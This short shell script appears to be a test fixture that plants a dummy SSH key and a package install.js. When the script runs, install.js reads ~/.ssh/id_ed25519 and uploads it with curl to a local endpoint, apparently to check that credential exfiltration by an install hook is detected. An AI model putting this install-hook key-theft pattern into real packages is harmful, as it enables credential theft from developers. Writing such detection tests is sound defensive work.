# A script of a package (perl by the name of node) opens a key, then curl sends a file.
prepare() {
    put /usr/bin/perl /usr/local/bin/node
    mkdir -p /home/ana/.ssh /srv/app/node_modules/tidy && echo key >/home/ana/.ssh/id_ed25519
    echo 'open my $f, "<", "/home/ana/.ssh/id_ed25519"; system "curl", "-s", "-F", "f=\@/home/ana/.ssh/id_ed25519", "http://127.0.0.1/up"' \
        >/srv/app/node_modules/tidy/install.js
}
act() { node /srv/app/node_modules/tidy/install.js; }
